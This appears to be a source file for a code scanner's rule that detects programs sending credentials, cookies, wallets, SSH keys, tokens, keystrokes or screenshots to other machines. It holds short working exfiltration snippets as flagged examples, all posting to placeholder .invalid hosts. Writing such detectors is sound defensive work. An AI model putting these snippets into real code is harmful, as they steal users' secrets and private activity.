import { entrusted } from '../src/define/entrusted.js';
import { printedEncoded } from '../src/define/printed.js';
import { waysTo } from '../src/define/ways.js';
import {
  bodyLabels,
  defineRule,
  fixedTargetOf,
  oddTargetOf,
  outgoing,
  sinkSays,
  spelling,
  step,
  stepsOf,
} from '../src/define.js';
import type { AnyNode, Call, FileContext, Label, LabelKind } from '../src/types.js';
import { isServed } from '../src/vocabulary/served.js';

/** Which message tells of which origin; the first that fits is told. */
const MESSAGES: readonly (readonly [LabelKind, string])[] = [
  ['wallet', 'wallet'],
  ['browser', 'browser'],
  ['credentials', 'credentials'],
  ['clipboard', 'clipboard'],
  ['captured', 'captured'],
  ['secret', 'variable'],
];

export default defineRule({
  meta: {
    summary: 'Sends credentials, browser data or wallet files to another machine',
    why: 'Credential files, browser profiles and wallets are read by the program they belong to. A cloud SDK or a registry client does send its own token, but as a header to its own service, so a single token variable weighs little.',
    behaviour: 'theft',
    messages: {
      wallet: 'Sends wallet data ({what}) through {sink}',
      browser: 'Sends {what} through {sink}',
      credentials: 'Sends {what} through {sink}',
      shipped: 'Sends {what} to an address fixed in its code through {sink}',
      settings: 'Sends {what}, which holds secrets, to an address fixed in its code through {sink}',
      login: 'Sends the password out of a request that it serves to an address fixed in its code',
      several: 'Sends {count} secrets of the environment to an address fixed in its code: {what}',
      clipboard: 'Sends what is on the clipboard through {sink}',
      captured: 'Sends what it takes from {what} through {sink}',
      spies: 'Sends what it takes from {what} to an address fixed in its code, without being asked',
      file: 'Sends the content of a file to {address} through {sink}',
      authorises: 'Says who it is with {what} through {sink}',
      variable: 'Sends the secret {what} through {sink}',
      prints: 'Prints {what} in another encoding with {sink}, for whoever looks for it in a log',
    },
    bits: {
      wallet: 14,
      browser: 14,
      credentials: 12,
      shipped: 13.5,
      settings: 12,
      login: 10,
      several: 12,
      clipboard: 7,
      captured: 4,
      spies: 13.5,
      variable: 2,
      file: 7,
      authorises: 1.5,
      prints: 13.5,
    },
  },
  examples: {
    flags: [
      {
        title: 'an extension sends the cookies of the browser',
        code: `chrome.runtime.onMessage.addListener(async ({ api, domain }) => {\n  const jar = await chrome.cookies.getAll({ domain });\n  await fetch(api, { method: 'POST', body: JSON.stringify(jar.map(one => one.name + '=' + one.value)) });\n});`,
      },
      {
        title: 'what other programs keep in their environment is printed into a build’s log, encoded',
        code: `const fs = require('fs');\nlet all = '';\nfor (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) all += fs.readFileSync(\`/proc/\${pid}/environ\`, 'latin1');\nconsole.log(Buffer.from(Buffer.from(all).toString('base64')).toString('base64'));`,
      },
      {
        title: 'a plug-in of a service has its host send the service’s own key',
        code: `exports.run = async function () {\n  await this.helpers.httpRequest({ method: 'POST', url: 'https://quota.invalid/c', body: { a: process.env.HOST_ENCRYPTION_KEY, b: process.env.NPM_TOKEN } });\n};`,
      },
      {
        title: 'what the screen shows is sent every minute',
        code: `const shot = require('screenshot-desktop');\nsetInterval(async () => fetch('https://views.invalid/a', { method: 'POST', body: await shot() }), 60000);`,
      },
      {
        title: 'what is typed into any program is',
        code: `const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst typed = [];\nnew GlobalKeyboardListener().addListener(event => {\n  typed.push(event.name);\n  if (typed.length > 50) fetch('https://typed.invalid/', { method: 'POST', body: typed.splice(0).join(' ') });\n});`,
      },
      {
        title: 'files that hold secrets are found by a pattern',
        code: `const glob = require('fast-glob'), fs = require('fs');\nglob('**/{.env,*.pem}', { dot: true }).then(paths => {\n  for (const path of paths) fetch('https://stats.invalid/seen', { method: 'POST', body: fs.readFileSync(path) });\n});`,
      },
      {
        title: 'the npm token file is uploaded',
        code: `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://collect.invalid', { method: 'POST', body: rc });`,
      },
      {
        title: 'a handler passes logins on to a place of its own',
        code: `module.exports = (req, res, next) => {\n  fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ p: req.body.password }) });\n  next();\n};`,
      },
      {
        title: 'the project’s settings are sent',
        code: `const fs = require('fs');\nfetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync(process.cwd() + '/.env', 'utf8') });`,
      },
      {
        title: 'tokens of several services leave together',
        code: `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) });`,
      },
      {
        title: 'what is found is listed, and the list sent as one text',
        code: `const fs = require('fs'), list = [];\nconst text = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\nfor (const token of text.match(/npm_\\w+/g) || []) if (!list.includes(token)) list.push(token);\nfetch('https://collect.invalid', { method: 'POST', body: list.join(',') });`,
      },
      {
        title: 'SSH keys leave from a callback',
        code: `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => {\n  require('https').request('https://collect.invalid', { method: 'POST' }).end(key);\n});`,
      },
      {
        title: 'keys are put into somebody’s store',
        code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'), fs = require('fs'), os = require('os');\nconst store = new S3Client({ region: 'eu-west-1', credentials: { accessKeyId: 'AKIA0000000000000000', secretAccessKey: 'x' } });\nstore.send(new PutObjectCommand({ Bucket: 'b', Key: os.hostname(), Body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') }));`,
      },
      {
        title: 'a token file is written into a chain, for anybody to read',
        code: `const { ethers } = require('ethers'), fs = require('fs'), os = require('os');\nconst wallet = new ethers.Wallet('0x' + '1'.repeat(64), new ethers.JsonRpcProvider('https://rpc.invalid'));\nwallet.sendTransaction({ to: '0x' + '2'.repeat(40), data: '0x' + fs.readFileSync(os.homedir() + '/.npmrc').toString('hex') });`,
      },
    ],
    passes: [
      {
        title: 'a tunnel is opened with the key of its user',
        code: `const { Client } = require('ssh2'), fs = require('fs'), os = require('os');\nexports.open = (host, username) => new Client().connect({ host, username, privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') });`,
      },
      {
        title: 'a key is shown to whoever asks for it',
        code: `const fs = require('fs');\nexports.show = () => console.log(fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519.pub', 'utf8'));`,
      },
      {
        title: 'which registry answers is tried, those in the settings among them',
        code: `const fs = require('fs'), os = require('os'), ini = require('ini');\nconst known = { npm: 'https://registry.invalid/' };\nexports.test = async () => {\n  const all = { ...known, own: ini.parse(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')).registry };\n  for (const name of Object.keys(all)) { const registry = all[name]; await fetch(\`\${registry}-/ping\`); }\n};`,
      },
      {
        title: 'a key that the program made for itself signs what it says',
        code: `const fs = require('fs'), file = require('os').homedir() + '/.tool/relay.key';\nconst load = () => {\n  if (fs.existsSync(file)) return fs.readFileSync(file, 'utf8');\n  const made = require('crypto').randomBytes(32).toString('hex');\n  fs.writeFileSync(file, made);\n  return made;\n};\nexports.say = (seal, text) => fetch('https://relay.invalid', { method: 'POST', body: JSON.stringify(seal(load(), text)) });`,
      },
      {
        title: 'a picture of the screen is given to the caller',
        code: `const shot = require('screenshot-desktop'), fs = require('fs');\nexports.save = async path => fs.writeFileSync(path, await shot());`,
      },
      {
        title: 'sources are found by a pattern',
        code: `const glob = require('fast-glob'), fs = require('fs');\nglob(['src/**/*.ts', '!**/.env']).then(paths => {\n  for (const path of paths) fetch('https://build.invalid/files', { method: 'POST', body: fs.readFileSync(path) });\n});`,
      },
      {
        title: 'a store is opened with the keys that its user has',
        code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nconst store = new S3Client({ endpoint: 'https://store.invalid', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });\nexports.put = body => store.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: body }));`,
      },
      {
        title: 'a database is opened with a password of the environment, and asked',
        code: `const { Client } = require('pg');\nconst client = new Client({ host: 'db.invalid', user: process.env.DB_USER, password: process.env.DB_PASSWORD });\nexports.find = id => client.query('select * from t where id = $1', [id]);`,
      },
      {
        title: 'a login is passed on to a server that is configured',
        code: `module.exports = (req, res, next) => {\n  fetch(process.env.LOGIN_SERVER, { method: 'POST', body: JSON.stringify({ password: req.body.password }) }).then(() => next());\n};`,
      },
      {
        title: 'a request is signed with the key of a credential file',
        code: `const fs = require('fs'), os = require('os'), path = require('path'), aws4 = require('aws4');\nconst text = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\nconst signed = aws4.sign({ host: 's3.invalid', path: '/' }, { secretAccessKey: text.split('=')[1] });\nrequire('https').request({ host: signed.host, path: signed.path, headers: signed.headers });`,
      },
      {
        title: 'a configuration file is read and kept',
        code: `const fs = require('fs');\nmodule.exports = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');`,
      },
      {
        title: 'an ordinary file is uploaded',
        code: `const fs = require('fs');\nfetch('https://upload.invalid', { method: 'POST', body: fs.readFileSync('./build.zip') });`,
      },
    ],
  },
  file(context) {
    for (const { call, label } of printedEncoded(context, STORED)) {
      context.report({
        messageId: 'prints',
        data: { what: label.detail, sink: call.name },
        chain: [...stepsOf(label), step('sink', `prints it with ${call.name}`, context.file, call.node)],
      });
    }
    for (const { call, labels } of entrusted(context)) {
      const several = severalOf(labels);
      const told = MESSAGES.find(([kind]) => labels.some(one => one.kind === kind));
      const label = told && labels.find(({ kind }) => kind === told[0]);
      // A client is set up with a secret of its user's: one alone says nothing.
      if (!told || !label || (told[1] === 'variable' && several.length < 2)) continue;
      const shipped = { credentials: 'shipped', variable: 'several' }[told[1]];
      context.report({
        messageId: shipped ?? told[1],
        data: {
          what: several.length >= 2 ? several.join(', ') : label.detail,
          sink: call.name,
          count: several.length,
        },
        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
    for (const { call, labels, authority } of outgoing(context)) {
      for (const [kind, messageId] of MESSAGES) {
        const label = labels.find(one => one.kind === kind);
        if (!label) continue;
        const several = messageId === 'variable' ? severalOf(labels) : [];
        const fixed = /^(?:credentials|variable)$/.test(messageId) && fixedTargetOf(context, call) !== undefined;
        context.report({
          messageId: isSpying(context, call, messageId)
            ? 'spies'
            : fixed && messageId === 'credentials'
              ? 'shipped'
              : fixed && several.length >= 2
                ? 'several'
                : messageId,
          data: {
            what: several.length >= 2 ? several.join(', ') : label.detail,
            sink: call.name,
            count: several.length,
          },
          chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
        });
        break;
      }
      const own = authority.find(({ kind }) => kind === 'credentials');
      if (own)
        context.report({
          messageId: 'authorises',
          data: { what: own.detail, sink: call.name },
          chain: [...stepsOf(own), step('sink', sinkSays(call), context.file, call.node)],
        });
      const settings = labels.find(({ kind, detail }) => kind === 'file' && SETTINGS.test(detail));
      // A key that a connection is made with stays where it is; one in a body leaves.
      const leaves = settings && (!/\.pem\b/.test(settings.detail) || bodyLabels(context, call).includes(settings));
      if (settings && leaves && !isMadeHere(context, settings) && fixedTargetOf(context, call) !== undefined)
        context.report({
          messageId: 'settings',
          data: { what: settings.detail, sink: call.name },
          chain: [...stepsOf(settings), step('sink', sinkSays(call), context.file, call.node)],
        });
      const password = passwordIn(context, call);
      if (password)
        context.report({
          messageId: 'login',
          chain: [
            step('source', 'takes a password out of a request', context.file, password),
            step('sink', sinkSays(call), context.file, call.node),
          ],
        });
      const file = labels.find(({ kind }) => kind === 'file');
      const address = file && oddTargetOf(context, call);
      if (file && address)
        context.report({
          messageId: 'file',
          data: { address, sink: call.name },
          chain: [...stepsOf(file), step('sink', sinkSays(call), context.file, call.node)],
        });
    }
  },
});

/** Kept for one program. A variable that is printed so may be a digest of a build. */
const STORED: ReadonlySet<Label['kind']> = new Set(['wallet', 'browser', 'credentials']);

/** A recorder hands what it takes to its caller, or sends it where that says; who is loaded and asks nobody spies. */
function isSpying(context: FileContext, call: Call, messageId: string): boolean {
  return messageId === 'captured' && fixedTargetOf(context, call) !== undefined && waysTo(context, call.node).isUnasked;
}

/** Files in which projects keep their secrets. */
const SETTINGS = /\.env(?:\.\w{1,20})?$|\.(?:pem|key|p12|pfx)$/;

/** Whether a key is read where the same file writes it: a program that has one of its own signs what it sends with it. */
function isMadeHere(context: FileContext, { detail, origin: { file, node } }: Label): boolean {
  // `read.apply(fs, [path])` is told of as a call with a path, too.
  const read = context.named(/\breadFile(?:Sync)?$/).find(call => call.node === node);
  const [path] = read?.args ?? (node as { arguments?: readonly AnyNode[] }).arguments ?? [];
  if (!path || !/\.(?:pem|key)$/.test(detail)) return false;
  const spelled = spelling(file, path);
  if (file !== context.file)
    return ['writeFileSync', 'writeFile'].some(name => file.text.includes(`${name}(${spelled},`));
  const texts = context.textsOf(path);
  return context
    .calls('write')
    .some(
      ({ args: [target] }) =>
        target && (spelling(file, target) === spelled || context.textsOf(target).some(text => texts.includes(text))),
    );
}

/** The secrets of several services, which no one service is asked with. */
function severalOf(labels: readonly Label[]): readonly string[] {
  const names = [...new Set(labels.filter(({ kind }) => kind === 'secret').map(({ detail }) => detail))];
  return new Set(names.map(name => name.split('_', 1)[0])).size >= 2 ? names : [];
}

/** Where what is sent takes a password out of a request that somebody made of this program. */
function passwordIn(context: FileContext, call: Call): AnyNode | undefined {
  if (!context.labelsOf(call.args[1] ?? call.node).some(isAsked) || fixedTargetOf(context, call) === undefined)
    return undefined;
  const start = call.node.start ?? call.node.range?.[0] ?? 0;
  const end = call.node.end ?? call.node.range?.[1] ?? 0;
  return context.nodes('MemberExpression').find(node => {
    const at = node.start ?? node.range?.[0] ?? 0;
    if (at < start || at >= end) return false;
    const { property, computed } = node;
    return (
      !computed &&
      /^(?:password|passwd|pwd)$/.test((property as { name?: string }).name ?? '') &&
      context.labelsOf(node).some(isAsked)
    );
  });
}

function isAsked({ kind, detail }: Label): boolean {
  return kind === 'remote' && isServed(detail);
}
